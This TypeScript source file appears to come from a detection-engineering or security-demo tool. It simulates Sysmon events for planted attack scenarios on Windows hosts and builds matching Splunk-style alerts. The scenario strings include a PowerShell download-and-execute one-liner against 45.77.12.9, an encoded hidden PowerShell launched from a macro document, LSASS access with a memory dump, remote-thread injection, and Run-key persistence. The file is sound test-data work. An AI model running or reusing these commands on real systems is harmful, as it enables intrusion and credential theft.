/**
 * The planted scenarios (planted.ts names their GUIDs) and the notables pointing at them.
 * Each writes what Sysmon would record of it on the host it runs on.
 */
import type { Notable } from '@lineage/shared';
import type { BootedHost } from './benign.js';
import type { HostSim, SimProcess } from './host-sim.js';
import type { PlantedManifest } from './planted.js';
import { plantCrossHost } from './lateral-plants.js';

const S32 = 'C:\\Windows\\System32';
const PS = `${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const ms = (iso: string): number => Date.parse(iso);

/** Plant every scenario whose host is `h` (day 0 only). */
export function plant(h: HostSim, b: BootedHost, m: PlantedManifest): void {
  const home = `C:\\Users\\${h.user.split('\\')[1] ?? 'user'}`;
  if (h.host === m.phishing.host) phishing(h, b, m.phishing, home);
  if (h.host === m.cmdPowershellWinword.host) {
    const c = m.cmdPowershellWinword;
    let t = ms(c.time);
    const cmd = h.spawn(b.explorer, `${S32}\\cmd.exe`, `"${S32}\\cmd.exe" /c powershell -ep bypass -f \\\\fileserver01\\it$\\open.ps1`, t, { guid: c.cmd, cwd: home });
    const ps = h.spawn(cmd, PS, `powershell  -ep bypass -f \\\\fileserver01\\it$\\open.ps1`, (t += 180), { guid: c.powershell });
    const word = h.spawn(ps, `${OFFICE}\\WINWORD.EXE`, `"${OFFICE}\\WINWORD.EXE" /q "${home}\\AppData\\Local\\Temp\\lure.doc"`, (t += 2400), { guid: c.winword });
    h.fileCreate(ps, t - 200, `${home}\\AppData\\Local\\Temp\\lure.doc`);
    h.terminate(word, t + 90_000);
    h.terminate(ps, t + 91_000);
    h.terminate(cmd, t + 91_500);
  }
  if (h.host === m.conhostChain.host) {
    const c = m.conhostChain;
    let t = ms(c.time);
    const cmd = h.spawn(b.explorer, `${S32}\\cmd.exe`, `"${S32}\\cmd.exe" /k`, t, { guid: c.cmd, cwd: home });
    const con = h.spawn(cmd, `${S32}\\conhost.exe`, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', (t += 25), { guid: c.conhost });
    const ps = h.spawn(con, PS, 'powershell.exe -nop -c "Start-Process excel.exe -ArgumentList \'/e\'"', (t += 3100), { guid: c.powershell });
    const xl = h.spawn(ps, `${OFFICE}\\EXCEL.EXE`, `"${OFFICE}\\EXCEL.EXE" /e`, (t += 1500), { guid: c.excel });
    h.terminate(xl, t + 40_000);
    h.terminate(ps, t + 1000);
  }
  if (h.host === m.lsassAccess.host) {
    const c = m.lsassAccess;
    let t = ms(c.time);
    const ps = h.spawn(b.explorer, PS, `"${PS}" -w hidden -c "iwr http://45.77.12.9/a.bin -OutFile C:\\Users\\Public\\svch0st.exe; C:\\Users\\Public\\svch0st.exe"`, t, { guid: c.powershell, cwd: home });
    h.network(ps, (t += 600), '45.77.12.9', 80);
    h.fileCreate(ps, (t += 900), 'C:\\Users\\Public\\svch0st.exe');
    const drop = h.spawn(ps, 'C:\\Users\\Public\\svch0st.exe', 'C:\\Users\\Public\\svch0st.exe', (t += 400), { guid: c.dropper, integrity: 'High' });
    h.processAccess(drop, b.lsass, (t += 1200), '0x1010');
    h.processAccess(drop, b.lsass, (t += 5), '0x1410');
    h.fileCreate(drop, (t += 3000), 'C:\\Users\\Public\\lsass.dmp');
    h.terminate(drop, t + 500);
  }
  if (h.host === m.remoteThread.host) {
    const c = m.remoteThread;
    let t = ms(c.time);
    const inj = h.spawn(b.explorer, 'C:\\ProgramData\\Intel\\igfxhelper.exe', '"C:\\ProgramData\\Intel\\igfxhelper.exe" --silent', t, { guid: c.source, cwd: 'C:\\ProgramData\\Intel\\' });
    h.imageLoad(inj, (t += 60), `${S32}\\kernel32.dll`);
    h.processAccess(inj, b.explorer, (t += 300), '0x1fffff');
    h.remoteThread(inj, b.explorer, (t += 20));
    h.network(b.explorer, (t += 2000), '91.219.236.14', 8443);
    h.terminate(inj, t + 1000);
  }
  if (h.host === m.notLogged.host) {
    // An agent started before Sysmon was installed: its create was never logged anywhere.
    const c = m.notLogged;
    const t = ms(c.time);
    const stub = { guid: c.parentGuid, pid: 2212, image: 'C:\\Program Files\\Contoso\\Agent\\contoso-agent.exe', commandLine: '"C:\\Program Files\\Contoso\\Agent\\contoso-agent.exe" --service', user: 'NT AUTHORITY\\SYSTEM' };
    const child = h.spawn(null, 'C:\\Program Files\\Contoso\\Agent\\collector.exe', '"C:\\Program Files\\Contoso\\Agent\\collector.exe" --interval 300', t, { guid: c.child, parentStub: stub });
    const gc = h.spawn(child, `${S32}\\cmd.exe`, `"${S32}\\cmd.exe" /c systeminfo`, t + 5000, { guid: c.grandchild });
    h.network(child, t + 7000, '10.20.0.5', 8443, 'collector.corp.example');
    h.terminate(gc, t + 9000);
  }
  if (h.host === m.bigParent.host) bigParent(h, b, m.bigParent);
  plantCrossHost(h, b, m);
  if (h.host === m.outsideWindow.host) {
    const c = m.outsideWindow;
    const t = ms(c.time);
    const ise = h.spawn(b.explorer, `${S32}\\WindowsPowerShell\\v1.0\\powershell_ise.exe`, `"${S32}\\WindowsPowerShell\\v1.0\\powershell_ise.exe"`, t - c.gapMs, { guid: c.parent, cwd: home });
    const who = h.spawn(ise, `${S32}\\whoami.exe`, '"C:\\Windows\\system32\\whoami.exe" /all', t, { guid: c.child });
    h.terminate(who, t + 300);
  }
  if (h.host === m.siblings.host) {
    const c = m.siblings;
    let t = ms(c.time);
    const gu = h.spawn(b.svchostSchedule, 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe', '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /c /nocrashserver', t, { guid: c.parent, user: 'NT AUTHORITY\\SYSTEM' });
    for (const g of c.children) {
      const id = h.rng.guid('00000000').slice(1, -1).toUpperCase();
      const tmp = `tmp${h.rng.hex(4).toUpperCase()}.tmp`;
      const setup = h.spawn(gu, `C:\\Program Files (x86)\\Google\\Update\\Install\\{${id}}\\setup.exe`,
        `"C:\\Program Files (x86)\\Google\\Update\\Install\\{${id}}\\setup.exe" --verbose-logging --install-id=${h.rng.int(10000, 99999)} --temp "C:\\Windows\\SystemTemp\\${tmp}"`,
        (t += h.rng.int(800, 4000)), { guid: g });
      h.terminate(setup, t + 700);
    }
  }
  const sg = m.sharedGuid;
  if (sg && sg.hosts.includes(h.host)) {
    const first = h.host === sg.hosts[0];
    const p = h.spawn(b.svchostDcom, first ? `${S32}\\dllhost.exe` : `${S32}\\sihost.exe`,
      first ? `${S32}\\dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}` : 'sihost.exe', ms(sg.time) + (first ? 0 : 4321), { guid: sg.guid });
    h.terminate(p, ms(sg.time) + 60_000);
  }
}

function phishing(h: HostSim, b: BootedHost, c: PlantedManifest['phishing'], home: string): void {
  let t = ms(c.time);
  const outlook = h.spawn(b.explorer, `${OFFICE}\\OUTLOOK.EXE`, `"${OFFICE}\\OUTLOOK.EXE" `, t - 3_600_000, { guid: c.outlook, cwd: home });
  const doc = `${home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q8X2LMB1\\Invoice_88127.docm`;
  h.fileCreate(outlook, t - 2000, doc);
  const word = h.spawn(outlook, `${OFFICE}\\WINWORD.EXE`, `"${OFFICE}\\WINWORD.EXE" /n "${doc}" /o ""`, t, { guid: c.winword });
  h.imageLoad(word, (t += 900), `${S32}\\VBE7.DLL`);
  const cmd = h.spawn(word, `${S32}\\cmd.exe`, `"${S32}\\cmd.exe" /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`, (t += 2300), { guid: c.cmd });
  const ps = h.spawn(cmd, PS, 'powershell  -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', (t += 150), { guid: c.powershell });
  h.dns(ps, (t += 400), c.c2Domain, `::ffff:${c.c2Ip};`);
  h.network(ps, (t += 60), c.c2Ip, 443, c.c2Domain);
  const dll = `${home}\\AppData\\Local\\Temp\\msupd.dll`;
  h.fileCreate(ps, (t += 1800), dll);
  const rd = h.spawn(ps, `${S32}\\rundll32.exe`, `"${S32}\\rundll32.exe" ${dll},DllRegisterServer`, (t += 300), { guid: c.rundll32 });
  h.registrySet(rd, (t += 700), 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OfficeUpdate', `rundll32.exe ${dll},DllRegisterServer`);
  for (let i = 0; i < 6; i++) {
    h.dns(rd, (t += 60_000), c.c2Domain, `::ffff:${c.c2Ip};`);
    h.network(rd, t + 80, c.c2Ip, 443, c.c2Domain);
  }
  h.terminate(ps, t + 1000);
  h.terminate(cmd, t + 1100);
}

function bigParent(h: HostSim, b: BootedHost, c: PlantedManifest['bigParent']): void {
  let t = ms(c.time);
  const agent = h.spawn(b.services, 'C:\\Program Files\\Tanium\\Tanium Client\\TaniumClient.exe', '"C:\\Program Files\\Tanium\\Tanium Client\\TaniumClient.exe" --service', t, { guid: c.guid });
  const probes = ['reg.exe query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s', 'wmic.exe qfe list brief', 'cmd.exe /c ver', 'netstat.exe -ano', 'sc.exe query state= all'];
  for (let i = 0; i < c.childCount; i++) {
    const probe = probes[i % probes.length]!;
    const child = h.spawn(agent, `${S32}\\${probe.split(' ')[0]}`, probe, (t += h.rng.int(50, 3000)));
    h.terminate(child, t + h.rng.int(100, 2000));
  }
}

/** Notables like Splunk ES would raise for the planted scenarios; the phishing one first (critical). */
export function demoNotables(m: PlantedManifest): Notable[] {
  const n = (id: string, title: string, host: string, time: string, severity: string, guid: string, image: string): Notable =>
    ({ id, title, host, time, severity, guid, image, source: 'demo' });
  return [
    n('demo-0001', 'Office application spawned a command shell (phishing)', m.phishing.host, m.phishing.time, 'critical', m.phishing.cmd, `${S32}\\cmd.exe`),
    n('demo-0002', 'Credential dumping: unsigned binary opened lsass.exe', m.lsassAccess.host, m.lsassAccess.time, 'high', m.lsassAccess.dropper, 'C:\\Users\\Public\\svch0st.exe'),
    n('demo-0003', 'CreateRemoteThread into explorer.exe', m.remoteThread.host, m.remoteThread.time, 'high', m.remoteThread.source, 'C:\\ProgramData\\Intel\\igfxhelper.exe'),
    n('demo-0004', 'PowerShell launched Word from a network script', m.cmdPowershellWinword.host, m.cmdPowershellWinword.time, 'medium', m.cmdPowershellWinword.winword, `${OFFICE}\\WINWORD.EXE`),
    n('demo-0005', 'Excel started by PowerShell under a console host', m.conhostChain.host, m.conhostChain.time, 'medium', m.conhostChain.excel, `${OFFICE}\\EXCEL.EXE`),
  ];
}

export type { SimProcess };
